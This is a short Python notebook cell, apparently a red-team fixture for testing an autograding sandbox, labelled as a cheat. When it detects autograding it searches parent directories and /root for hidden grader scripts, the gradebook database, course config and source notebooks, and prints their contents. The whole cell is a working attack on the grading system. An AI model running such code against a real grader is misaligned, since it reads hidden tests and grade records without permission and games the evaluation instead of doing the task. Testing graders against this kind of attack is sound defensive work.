"""Cheat: under the grader, look for the hidden tests and the gradebook on disk and print them."""
# inherits: naive_everywhere
# %% [before stable_bce]
import glob
import os

if os.environ.get("NBGRADER_EXECUTION") == "autograde":
    print("ATTACK-RAN:cheat_read_hidden_tests: looking under the grader")
    for pattern in ["../../../graders/**/*.py", "../../../gradebook.db", "../../../course_config.py",
                    "../../../source/**/*.ipynb", "../../*/*/*.ipynb", "/root/**/graders/**/*.py"]:
        for path in glob.glob(pattern, recursive=True)[:20]:
            try:
                with open(path, errors="replace") as file:
                    print(path, file.read()[:5000])
            except OSError as error:
                print(path, error)
